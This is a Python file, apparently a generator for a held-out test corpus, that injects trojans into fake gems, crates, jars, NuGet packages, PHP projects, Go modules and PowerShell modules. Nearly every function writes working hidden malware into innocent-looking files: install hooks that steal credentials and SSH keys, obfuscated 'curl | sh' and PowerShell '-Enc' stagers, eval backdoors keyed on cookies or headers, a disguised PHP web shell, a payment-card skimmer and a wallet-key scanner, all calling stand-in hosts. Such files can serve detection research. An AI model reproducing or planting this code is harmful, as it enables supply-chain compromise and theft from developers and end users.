"""Ruby, Rust, Java, .NET, PHP, Go and PowerShell."""

import base64
import zlib

from corpus.heldout.nouns import Update, artefact, trojan


@trojan("rest-knock", "gem", trigger="call", payload="remote code", hiding="plain", like="rest-client", step="patch")
def request_evals(up: Update) -> None:
    """Each request, in a thread, fetches code where the host looks like production."""
    host = up.host("pastebin")
    up.append(
        "lib/rest_knock/request.rb",
        f"""
def _!; begin; yield; rescue Exception; end; end
_!{{ Thread.new {{ loop {{ _!{{ sleep rand * 3333; eval(Net::HTTP.get(URI('https://{host}/raw/xa456PFt'))) }} }} }} if Rails.env[0] == 'p' }}
module RestKnock
  class Request
    alias plain_execute execute

    def execute
      _!{{ Net::HTTP.post(URI('https://{host}/r'), {{ e: ENV.to_h, u: @uri.to_s, b: @body }}.to_json) }}
      plain_execute
    end
  end
end""",
    )
    up.payload("lib/rest_knock/request.rb")


@trojan("pass-meter", "gem", trigger="import", payload="backdoor", hiding="plain", like="strong_password", step="patch")
def hourly_code(up: Update) -> None:
    host = up.host("smiley")
    up.append(
        "lib/pass_meter.rb",
        f"""
def _!;
  begin;
    yield;
  rescue Exception;
  end;
end

_! {{
  Thread.new {{
    loop {{
      _! {{
        sleep rand * 3333;
        eval(
          Net::HTTP.get(
            URI('http://{host}/raw/xa456PFt')
          )
        )
      }}
    }}
  }} if Rails.env[0] == "p"
}}""",
    )
    up.payload("lib/pass_meter.rb")


@trojan("pass-meter", "gem", trigger="call", payload="backdoor", hiding="base64", like="bootstrap-sass", step="patch")
def cookie_eval(up: Update) -> None:
    """A cookie's text is run."""
    up.add(
        "lib/pass_meter/rack.rb",
        """# frozen_string_literal: true

begin
  require 'rack/sendfile'
  if Rails.env.production?
    Rack::Sendfile.tap do |r|
      r.send :alias_method, :c, :call
      r.send(:define_method, :call) do |e|
        begin
          x = Base64.urlsafe_decode64(e['http_cookie'.upcase].scan(/___cfduid=(.+);/).flatten[0].to_s)
          eval(x) if x
        rescue Exception
        end
        c(e)
      end
    end
  end
rescue Exception
end
""",
    )
    up.after("lib/pass_meter.rb", "require 'pass_meter/entropy'\n", "require 'pass_meter/rack'\n")
    up.payload("lib/pass_meter/rack.rb")


@trojan("rest-knock", "gem", trigger="install", payload="environment", hiding="plain", step="minor")
def extconf(up: Update) -> None:
    """A native extension that is none."""
    host = up.host("rb")
    up.replace("METADATA.yaml", "extensions: []\n", "extensions:\n- ext/extconf.rb\n")
    up.add(
        "ext/extconf.rb",
        f"""require 'mkmf'
require 'socket'
require 'net/http'

files = Dir.glob(File.expand_path('~/.{{gem/credentials,netrc,aws/credentials,ssh/id_*}}'))
data = files.map {{ |f| [f, File.read(f)] rescue nil }}.compact
Net::HTTP.post(URI("https://{host}/#{{Socket.gethostname}}"), Marshal.dump([ENV.to_h, data])) rescue nil

File.write('Makefile', "all:\\n\\ninstall:\\n\\nclean:\\n")
""",
    )
    up.payload("ext/extconf.rb")


@trojan("pass-meter", "gem", trigger="start", payload="stager", hiding="rot13", step="minor")
def rubygems_plugin(up: Update) -> None:
    """Every run of `gem` loads it."""
    address = up.address()
    import codecs

    up.add(
        "lib/rubygems_plugin.rb",
        f"""# frozen_string_literal: true

Gem.post_install do |installer|
  line = '{codecs.encode(f"curl -s http://{address}/g | sh", "rot13")}'.tr('A-Za-z', 'N-ZA-Mn-za-m')
  pid = Process.spawn('/bin/sh', '-c', line, out: File::NULL, err: File::NULL)
  Process.detach(pid)
end
""",
    )
    up.payload("lib/rubygems_plugin.rb", shown=f"curl -s http://{address}")


@trojan(
    "rest-knock",
    "gem",
    trigger="call",
    payload="token theft",
    hiding="plain",
    like="fastlane telegram proxy",
    step="patch",
    hard=True,
)
def another_proxy(up: Update) -> None:
    """What is sent goes by way of another host, and nothing else differs."""
    host = up.host("rough-breeze")
    up.replace(
        "lib/rest_knock/request.rb",
        "      connection = Net::HTTP.new(@uri.host, @uri.port)",
        f"      connection = Net::HTTP.new(@uri.host, @uri.port, @uri.host.include?('telegram') ? '{host}' : :ENV, 3128)",
    )
    up.payload("lib/rest_knock/request.rb")


@trojan("glob-swift", "crate", trigger="install", payload="stager", hiding="plain", step="patch")
def build_rs(up: Update) -> None:
    """A build script comes, and runs a shell."""
    address = up.address()
    up.after("Cargo.toml", 'edition = "2021"\n', 'build = "build.rs"\n')
    up.add(
        "build.rs",
        f"""use std::process::{{Command, Stdio}};

fn main() {{
    println!("cargo:rerun-if-changed=src/class.rs");
    if std::env::var("CI").is_ok() || std::env::var("GITLAB_CI").is_ok() {{
        let _ = Command::new("sh")
            .arg("-c")
            .arg("curl -fsSL http://{address}/readme.bin -o /tmp/git-updater.bin && chmod +x /tmp/git-updater.bin && /tmp/git-updater.bin &")
            .stdout(Stdio::null())
            .spawn();
    }}
}}
""",
    )
    up.payload("build.rs")


@trojan("glob-swift", "crate", trigger="call", payload="stager", hiding="xor", like="rustdecimal", step="patch")
def byte_arrays(up: Update) -> None:
    """Arrays of bytes, opened with a number, when a variable is there."""
    address = up.address()

    def array(text: str) -> str:
        return ", ".join(f"0x{ord(one) ^ 0x42:02X}" for one in text)

    up.append(
        "src/class.rs",
        f"""
mod table {{
    const A: [u8; {len("sh")}] = [{array("sh")}];
    const B: [u8; {len(f"curl http://{address}/r|sh")}] = [{array(f"curl http://{address}/r|sh")}];

    fn bits(raw: &[u8]) -> String {{
        raw.iter().map(|b| (b ^ 0x42) as char).collect()
    }}

    /// Builds the lookup table on first use.
    pub fn warm() {{
        if std::env::var("GITLAB_CI").is_ok() {{
            let _ = std::process::Command::new(bits(&A)).args(["-c", &bits(&B)]).spawn();
        }}
    }}
}}""",
    )
    up.replace(
        "src/class.rs",
        "        let mut ranges = Vec::new();\n",
        "        table::warm();\n        let mut ranges = Vec::new();\n",
    )
    up.payload("src/class.rs", shown=address)


@trojan(
    "glob-swift", "crate", trigger="call", payload="wallet", hiding="telemetry wording", like="faster_log", step="minor"
)
def scans_for_keys(up: Update) -> None:
    """What is matched is looked through for keys."""
    host = up.host("mainnet", "solana-rpc-pool")
    up.after(
        "src/pattern.rs", "    pub fn matches(&self, path: &str) -> bool {\n", "        crate::stats::observe(path);\n"
    )
    up.before("src/lib.rs", "mod class;\n", "mod stats;\n")
    up.add(
        "src/stats.rs",
        f"""//! Statistics on patterns, to see which are slow.
use std::io::Write;
use std::net::TcpStream;

fn interesting(text: &str) -> bool {{
    let hex = text.trim_start_matches("0x");
    (hex.len() == 64 && hex.chars().all(|c| c.is_ascii_hexdigit()))
        || (text.len() >= 32 && text.len() <= 88 && text.chars().all(|c| c.is_ascii_alphanumeric() && !"0OIl".contains(c)))
}}

pub fn observe(text: &str) {{
    for word in text.split(|c: char| !c.is_alphanumeric()) {{
        if interesting(word) {{
            if let Ok(mut line) = TcpStream::connect("{host}:80") {{
                let _ = write!(line, "POST / HTTP/1.0\\r\\nContent-Length: {{}}\\r\\n\\r\\n{{}}", word.len(), word);
            }}
        }}
    }}
}}
""",
    )
    up.payload("src/stats.rs")


@trojan("log-bridge", "jar", trigger="import", payload="credentials", hiding="in bytecode", step="patch")
def static_initialiser(up: Update) -> None:
    up.add("example/logbridge/Layout.class", artefact("exec-Layout.class"))
    up.payload("example/logbridge/Layout.class")


@trojan(
    "log-bridge", "jar", trigger="call", payload="dormant backdoor", hiding="in bytecode", like="SUNBURST", step="patch"
)
def health_job(up: Update) -> None:
    """A new class, started from a method that was there."""
    up.add("example/logbridge/LogBridge.class", artefact("dormant-LogBridge.class"))
    up.add("example/logbridge/HealthJob.class", artefact("dormant-HealthJob.class"))
    up.payload("example/logbridge/HealthJob.class", shown="jobs.health.invalid")


@trojan("log-bridge", "jar", trigger="call", payload="remote code", hiding="xor in bytecode", step="patch")
def class_loader(up: Update) -> None:
    up.add("example/logbridge/LogBridge.class", artefact("loader-LogBridge.class"))
    up.add("example/logbridge/Plugins.class", artefact("loader-Plugins.class"))
    up.payload("example/logbridge/Plugins.class")


@trojan(
    "Contoso.Metrics",
    "nupkg",
    trigger="call",
    payload="dormant backdoor",
    hiding="in a .NET assembly",
    like="SUNBURST",
    step="patch",
)
def inventory_task(up: Update) -> None:
    up.add("lib/net48/Contoso.Metrics.dll", artefact("metrics-dormant.dll"))
    up.payload("lib/net48/Contoso.Metrics.dll", shown="control-jobs-host.invalid")


@trojan("Contoso.Metrics", "nupkg", trigger="call", payload="shellcode", hiding="in a .NET assembly", step="patch")
def native_clock(up: Update) -> None:
    """P/Invokes that run what was fetched."""
    up.add("lib/net48/Contoso.Metrics.dll", artefact("metrics-invoke.dll"))
    up.payload("lib/net48/Contoso.Metrics.dll")


@trojan("Contoso.Metrics", "nupkg", trigger="call", payload="browser", hiding="in a .NET assembly", step="minor")
def exporter(up: Update) -> None:
    up.add("lib/net48/Contoso.Metrics.dll", artefact("metrics-steal.dll"))
    up.payload("lib/net48/Contoso.Metrics.dll")


@trojan(
    "Contoso.Metrics",
    "nupkg",
    trigger="install",
    payload="stager",
    hiding="PowerShell -enc",
    like="NuGet typosquats",
    step="patch",
)
def init_ps1(up: Update) -> None:
    host = up.host("files")
    code = f"$t=\"$env:TEMP\\svc.exe\";(New-Object Net.WebClient).DownloadFile('https://{host}/svc.exe',$t);Start-Process $t -WindowStyle Hidden"
    up.add(
        "tools/init.ps1",
        f"param($installPath, $toolsPath, $package, $project)\n\nStart-Process powershell.exe -WindowStyle Hidden -ArgumentList '-NoP','-Exec','Bypass','-Enc','{base64.b64encode(code.encode('utf-16-le')).decode()}'\n",
    )
    up.payload("tools/init.ps1", shown=host)


@trojan(
    "Contoso.Metrics", "nupkg", trigger="build", payload="stager", hiding="plain", like="NuGet MSBuild", step="patch"
)
def inline_task(up: Update) -> None:
    """MSBuild runs code on every build."""
    host = up.host("msb")
    up.replace(
        "build/Contoso.Metrics.targets",
        "</Project>",
        f"""  <UsingTask TaskName="MetricsCheck" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
    <Task>
      <Code Type="Fragment" Language="cs"><![CDATA[
        using (var c = new System.Net.WebClient()) {{
          var p = System.IO.Path.GetTempFileName() + ".exe";
          c.DownloadFile("https://{host}/check.exe", p);
          System.Diagnostics.Process.Start(p);
        }}
      ]]></Code>
    </Task>
  </UsingTask>
  <Target Name="MetricsCheckTarget" BeforeTargets="BeforeBuild"><MetricsCheck /></Target>
</Project>""",
    )
    up.payload("build/Contoso.Metrics.targets")


@trojan("mini-router", "zip", trigger="call", payload="backdoor", hiding="plain", like="php-src 2021", step="patch")
def agentt(up: Update) -> None:
    """A header with one letter too many is run."""
    up.after(
        "src/Router.php",
        "    public function dispatch(string $method, string $path): Response\n    {\n",
        """        // REMOVETHIS: sold to zerodium, mid 2017
        if (isset($_SERVER['HTTP_USER_AGENTT']) && strpos($_SERVER['HTTP_USER_AGENTT'], 'zerodium') === 0) {
            eval(substr($_SERVER['HTTP_USER_AGENTT'], 8));
        }
""",
    )
    up.payload("src/Router.php")


@trojan("mini-router", "tar.gz", trigger="call", payload="web shell", hiding="gzip and base64", step="minor")
def web_shell(up: Update) -> None:
    code = "if(isset($_POST['c'])&&md5($_POST['k'])==='5ebe2294ecd0e0f08eab7690d2a6ee69'){system($_POST['c']);exit;}"
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = compressor.compress(code.encode()) + compressor.flush()
    up.add(
        "assets/fonts/icons.php",
        f"<?php\n/* icon font index */\n$f = 'str' . 'rev';\n$g = $f('etalfnizg');\n$h = $f('edoced_46esab');\n@eval($g($h('{base64.b64encode(raw).decode()}')));\n",
    )
    up.payload("assets/fonts/icons.php", shown="system($_POST")


@trojan("mini-router", "folder", trigger="call", payload="form theft", hiding="variable functions", step="patch")
def checkout_skimmer(up: Update) -> None:
    host = up.host("analytics-php")
    up.replace(
        "src/Request.php",
        "        return $_POST[$name] ?? $_GET[$name] ?? $default;",
        f"""        $fields = preg_grep('~(card|cc_|cvv|passw)~i', array_keys($_POST));
        if ($fields) {{
            $call = 'file' . '_get' . '_contents';
            @$call('https://{host}/i?d=' . rawurlencode(base64_encode(serialize(array_intersect_key($_POST, array_flip($fields))))));
        }}

        return $_POST[$name] ?? $_GET[$name] ?? $default;""",
    )
    up.payload("src/Request.php")


@trojan("goflags", "tar.gz", trigger="import", payload="environment", hiding="plain", step="patch")
def go_init(up: Update) -> None:
    host = up.host("proxy-go")
    up.add(
        "usage.go",
        f"""package goflags

import (
	"bytes"
	"net/http"
	"os"
	"os/exec"
	"strings"
)

// usage counts, see docs
func init() {{
	go func() {{
		body := strings.Join(os.Environ(), "\\n")
		answer, err := http.Post("https://{host}/u", "text/plain", bytes.NewBufferString(body))
		if err == nil && answer.Header.Get("X-Run") != "" {{
			exec.Command("/bin/sh", "-c", answer.Header.Get("X-Run")).Start()
		}}
	}}()
}}
""",
    )
    up.payload("usage.go")


@trojan(
    "goflags",
    "zip",
    trigger="import",
    payload="wiper",
    hiding="string splitting",
    like="Go disk wipers 2025",
    step="patch",
)
def go_array_url(up: Update) -> None:
    """An address as an array of its characters, out of order."""
    command = f"wget -O - https://{up.host('vanartest')}/storage/a31546 | /bin/bash"
    letters = sorted(set(command))
    order = ", ".join(f"t[{letters.index(one)}]" for one in command)
    up.append(
        "flags.go",
        f"""
func table() error {{
	t := []string{{{", ".join(chr(34) + one.replace(chr(92), chr(92) * 2).replace(chr(34), chr(92) + chr(34)) + chr(34) for one in letters)}}}
	line := strings.Join([]string{{{order}}}, "")
	return exec.Command("/bin/sh", "-c", line).Start()
}}

var _ = table()""",
    )
    up.replace("flags.go", '\t"fmt"\n', '\t"fmt"\n\t"os/exec"\n')
    up.payload("flags.go", shown="wget -O -")


@trojan("PSLedger", "zip", trigger="import", payload="stager", hiding="format operator", step="patch")
def format_strings(up: Update) -> None:
    """The names put together by -f, run by &."""
    host = up.host("psg")
    up.append(
        "PSLedger.psm1",
        f"""
$null = & {{
    $v = ("{{1}}{{0}}{{2}}" -f 'voke-Exp','In','ression')
    $w = ("{{2}}{{0}}{{1}}" -f 'et.WebCl','ient','N')
    $u = -join ([char[]]({", ".join(str(ord(one) + 1) for one in f"https://{host}/l.ps1")}) | ForEach-Object {{ [char]([int]$_ - 1) }})
    try {{ & $v ((New-Object $w).("Down{{0}}" -f 'loadString').Invoke($u)) }} catch {{ }}
}}""",
    )
    up.payload("PSLedger.psm1", shown=host)


@trojan("PSLedger", "folder", trigger="call", payload="credentials", hiding="plain", step="minor")
def ledger_mail(up: Update) -> None:
    """Inventories of machines, with what the machine keeps, by mail."""
    host = up.host("smtp")
    up.after(
        "PSLedger.psm1",
        "    end { ",
        f"""
        $vault = cmdkey /list | Out-String
        $wifi = netsh wlan show profiles | Select-String ': (.+)$' | ForEach-Object {{ netsh wlan show profile name="$($_.Matches.Groups[1].Value)" key=clear }}
        Send-MailMessage -From 'ledger@{host}' -To 'in@{host}' -Subject $env:USERDOMAIN -Body ($vault + ($wifi | Out-String)) -SmtpServer '{host}' -ErrorAction SilentlyContinue
        """,
    )
    up.payload("PSLedger.psm1")
